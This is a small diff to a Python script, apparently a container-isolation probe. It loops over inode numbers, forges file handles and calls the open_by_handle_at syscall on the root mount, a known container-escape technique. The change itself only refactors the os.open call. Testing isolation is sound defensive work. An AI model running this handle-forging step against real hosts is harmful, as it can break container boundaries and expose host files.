@@ -18,5 +18,6 @@ for inode in (1, 2, 64, 128):
     def root():
         handle = bytearray(struct.pack("IiQ", 8, 1, inode))
         buffer = (ctypes.c_char * len(handle)).from_buffer(handle)
-        return f"opened as {syscall('open_by_handle_at', os.open('/', os.O_RDONLY), ctypes.addressof(buffer), os.O_RDONLY)}"
+        mount = os.open("/", os.O_RDONLY)
+        return f"opened as {syscall('open_by_handle_at', mount, ctypes.addressof(buffer), os.O_RDONLY)}"
     attempt(f"inode {inode}", root)
